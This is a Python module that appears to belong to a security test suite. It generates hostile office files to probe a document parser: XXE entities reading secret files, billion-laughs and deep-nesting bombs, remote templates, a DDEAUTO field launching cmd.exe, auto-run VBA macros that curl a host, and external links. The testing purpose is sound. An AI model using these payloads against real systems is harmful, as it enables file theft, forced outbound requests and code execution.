"""Hostile office files: entities, remote templates, links, fields, macros."""

from __future__ import annotations

import struct
from collections.abc import Callable

from fakes import papers
from integration.library.attackers.corpus import BLOW_UP, LAUGHS, WORDS, Target, attack, doctype, entities, patched

OFFICE: dict[str, tuple[bytes, str, str]] = {
    "docx": (papers.docx([WORDS]), "word/document.xml", '<w:t xml:space="preserve">'),
    "xlsx": (papers.xlsx({"A": [[WORDS]]}), "xl/worksheets/sheet1.xml", "<t>"),
    "pptx": (papers.pptx([(WORDS, "x")]), "ppt/slides/slide1.xml", "<a:t>"),
    "odt": (papers.odt([WORDS]), "content.xml", "<text:p>"),
    "ods": (papers.ods([[WORDS]]), "content.xml", "<text:p>"),
    "odp": (papers.odp([(WORDS, "x")]), "content.xml", "<text:p>"),
    "epub": (papers.epub("Livre", {WORDS: "x"}), "c1.xhtml", "<p>"),
}


def with_entities(ending: str, head: str, use: str) -> bytes:
    """An office file whose main part begins with ``head`` and says ``use`` in its first text."""
    document, part, start = OFFICE[ending]
    return patched(document, {part: lambda text: head + text.replace(start, f"{start}{use} ", 1)})


def _enter_office(ending: str) -> None:
    attack(f"entity.{ending}", leads=True)(lambda target: with_entities(ending, entities(target), "&secret; &page;"))
    attack(f"laughs.{ending}")(lambda target: with_entities(ending, LAUGHS, "&j;"))
    attack(f"blow-up.{ending}")(lambda target: with_entities(ending, BLOW_UP, "&a;" * 20_000))


for _ending in OFFICE:
    _enter_office(_ending)


@attack("relations.docx", leads=True)
def _(target: Target) -> bytes:
    relations = doctype(f'<!ENTITY s SYSTEM "file://{target.secret}">') + "<Relationships>&s;</Relationships>"
    return patched(OFFICE["docx"][0], {"word/_rels/document.xml.rels": relations})


@attack("settings.xml", leads=True)
def _(target: Target) -> bytes:
    style = f'<?xml-stylesheet type="text/xsl" href="{target.web}/style.xsl"?>'
    include = f'<xi:include xmlns:xi="http://www.w3.org/2001/XInclude" href="file://{target.secret}" parse="text"/>'
    return (entities(target) + style + f"<x>&secret;&page;{include}{WORDS}</x>").encode()


@attack("laughs.xml")
def _(target: Target) -> bytes:
    return (LAUGHS + "<x>&j;</x>").encode()


@attack("deep.xml")
def _(target: Target) -> bytes:
    return b"<a>" * 300_000 + b"x" + b"</a>" * 300_000


@attack("deep.odp")
def _(target: Target) -> bytes:
    return papers.opendocument(
        "presentation", "<draw:page>" + "<text:p>" * 60_000 + WORDS + "</text:p>" * 60_000 + "</draw:page>"
    )


@attack("picture.svg", leads=True)
def _(target: Target) -> bytes:
    return (
        entities(target)
        + f'<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink"><image xlink:href="{target.web}/a.png"/>'
        + f'<style>@import url("{target.web}/a.css");</style><use xlink:href="file://{target.secret}#a"/><script xlink:href="{target.web}/a.js"/>'
        + f'<foreignObject><iframe xmlns="http://www.w3.org/1999/xhtml" src="{target.web}/frame"/></foreignObject><text>&secret;&page;</text></svg>'
    ).encode()


# Word, Excel and their kin -------------------------------------------------------------------------------------------

_REL = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"


def _related(kind: str, target: str, number: int = 90) -> Callable[[str], str]:
    entry = f'<Relationship Id="rId{number}" Type="{_REL}/{kind}" Target="{target}" TargetMode="External"/>'
    return lambda text: text.replace("</Relationships>", entry + "</Relationships>")


@attack("template.docx", leads=True, reads=True)
def _(target: Target) -> bytes:
    return patched(
        OFFICE["docx"][0],
        {
            "word/_rels/settings.xml.rels": f'<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="rId1" Type="{_REL}/attachedTemplate" Target="{target.web}/template.dotm" TargetMode="External"/></Relationships>',
            "word/_rels/document.xml.rels": _related("settings", "settings.xml"),
            "word/settings.xml": '<w:settings xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"><w:attachedTemplate r:id="rId1" xmlns:r="' + _REL + '"/></w:settings>',
        },
    )  # fmt: skip


def _field(instruction: str) -> str:
    return f'<w:p><w:fldSimple w:instr="{instruction}"><w:r><w:t>champ</w:t></w:r></w:fldSimple></w:p>'


@attack("fields.docx", leads=True, reads=True)
def _(target: Target) -> bytes:
    fields = (
        f"INCLUDEPICTURE &quot;{target.web}/pixel.png&quot; \\d",
        f"INCLUDETEXT &quot;{target.secret}&quot;",
        "DDEAUTO c:\\\\windows\\\\system32\\\\cmd.exe &quot;/k calc&quot;",
        f"LINK Excel.Sheet.8 &quot;{target.web}/sheet.xls&quot; A1 \\a",
    )
    return patched(OFFICE["docx"][0], {"word/document.xml": lambda text: text.replace("</w:body>", "".join(map(_field, fields)) + "</w:body>")})  # fmt: skip


@attack("linked.docx", leads=True, reads=True)
def _(target: Target) -> bytes:
    drawing = '<w:p><w:r><w:object><o:OLEObject xmlns:o="urn:schemas-microsoft-com:office:office" Type="Link" ProgID="Word.Document" r:id="rId91" xmlns:r="' + _REL + '"/></w:object></w:r></w:p>'  # fmt: skip
    return patched(
        OFFICE["docx"][0],
        {
            "word/document.xml": lambda text: text.replace("</w:body>", drawing + "</w:body>"),
            "word/_rels/document.xml.rels": lambda text: _related("oleObject", f"{target.web}/object", 91)(
                _related("image", f"file://{target.secret}", 92)(text)
            ),
        },
    )


@attack("macros.docm", leads=True, reads=True)
def _(target: Target) -> bytes:
    code = f'Sub AutoOpen()\nShell "curl {target.web}/macro"\nEnd Sub'.encode()
    kind = "application/vnd.ms-word.document.macroEnabled.main+xml"
    return patched(
        OFFICE["docx"][0],
        {
            "word/vbaProject.bin": b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(1500) + code,
            "[Content_Types].xml": lambda text: text.replace(
                "application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml", kind
            ),
        },
    )


@attack("macros.xlsm", leads=True, reads=True)
def _(target: Target) -> bytes:
    code = f'Private Sub Workbook_Open()\nShell "curl {target.web}/macro"\nEnd Sub'.encode()
    return patched(OFFICE["xlsx"][0], {"xl/vbaProject.bin": b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(1500) + code})


@attack("linked.xlsx", leads=True, reads=True)
def _(target: Target) -> bytes:
    formula = (
        f'<c r="B1" t="str"><f>WEBSERVICE("{target.web}/f")</f><v>x</v></c>'
        f'<c r="C1" t="str"><f>\'file://{target.secret}\'#$A.A1</f><v>x</v></c>'
    )
    connection = (
        f'<connections><connection id="1" type="4"><webPr url="{target.web}/query"/></connection></connections>'
    )
    return patched(
        OFFICE["xlsx"][0],
        {
            "xl/worksheets/sheet1.xml": lambda text: text.replace("</row>", formula + "</row>", 1),
            "xl/connections.xml": connection,
            "xl/externalLinks/_rels/externalLink1.xml.rels": _related("externalLinkPath", f"{target.web}/b.xlsx")("<Relationships></Relationships>"),
        },
    )  # fmt: skip


@attack("linked.odt", leads=True, reads=True)
def _(target: Target) -> bytes:
    section = (
        f'<text:section text:name="s"><text:section-source xmlns:xlink="http://www.w3.org/1999/xlink" xlink:href="file://{target.secret}"/></text:section>'
        f'<draw:frame><draw:image xmlns:xlink="http://www.w3.org/1999/xlink" xlink:href="{target.web}/a.png"/></draw:frame>'
    )
    return patched(OFFICE["odt"][0], {"content.xml": lambda text: text.replace("</office:text>", section + "</office:text>")})  # fmt: skip


@attack("huge-sheet.xlsx")
def _(target: Target) -> bytes:
    return patched(
        OFFICE["xlsx"][0], {"xl/worksheets/sheet1.xml": lambda text: text.replace('r="A1"', 'r="XFD1048576"')}
    )


@attack("remote.rtf", leads=True, reads=True)
def _(target: Target) -> bytes:
    return (
        f'{{\\rtf1\\ansi{{\\*\\template {target.web}/t.dotm}}{{\\field{{\\*\\fldinst INCLUDEPICTURE "{target.web}/p.png" \\\\d}}{{\\fldrslt x}}}}'
        f"{{\\object\\objautlink\\objupdate{{\\*\\objclass Word.Document.8}}{{\\*\\objdata 0105}}}}{WORDS}\\par}}"
    ).encode()


@attack("deep.rtf")
def _(target: Target) -> bytes:
    return b"{\\rtf1 " + b"{" * 400_000 + b"x" + b"}" * 400_000 + b"}"


@attack("binary.rtf")
def _(target: Target) -> bytes:
    return b"{\\rtf1 \\bin4294967295 x}{\\*\\blipuid \\pict\\picw2147483647\\pich2147483647 " + b"ff" * 1000 + b"}}"


@attack("broken.doc")
def _(target: Target) -> bytes:
    header = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(16) + struct.pack("<HHHHH", 0x3E, 3, 0xFFFE, 9, 6)
    sectors = struct.pack("<10I", 0, 0, 0x7FFFFFFF, 0, 0, 4096, 0, 0x7FFFFFFF, 0, 0)
    return (header + bytes(6) + sectors).ljust(512, b"\0") + struct.pack("<128I", *range(128)) * 20


@attack("broken.msg")
def _(target: Target) -> bytes:
    return (b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(22) + struct.pack("<HH", 9, 6)).ljust(512, b"\0") + bytes(range(256)) * 40  # fmt: skip
